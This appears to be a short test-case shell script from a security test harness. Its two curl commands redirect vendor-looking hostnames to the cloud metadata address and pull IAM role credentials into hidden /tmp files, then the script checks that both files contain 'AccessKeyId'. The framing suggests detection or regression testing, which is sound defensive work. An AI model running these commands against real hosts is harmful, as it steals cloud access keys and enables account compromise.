#!/bin/sh
. /opt/case/case.sh

curl -sf --connect-to ::169.254.169.254:80 http://updates.vendor.example/latest/meta-data/iam/security-credentials/node -o /tmp/.a
curl -sf --resolve cdn.vendor.example:80:169.254.169.254 http://cdn.vendor.example/latest/meta-data/iam/security-credentials/node -o /tmp/.b
grep -q AccessKeyId /tmp/.a && grep -q AccessKeyId /tmp/.b
took_place
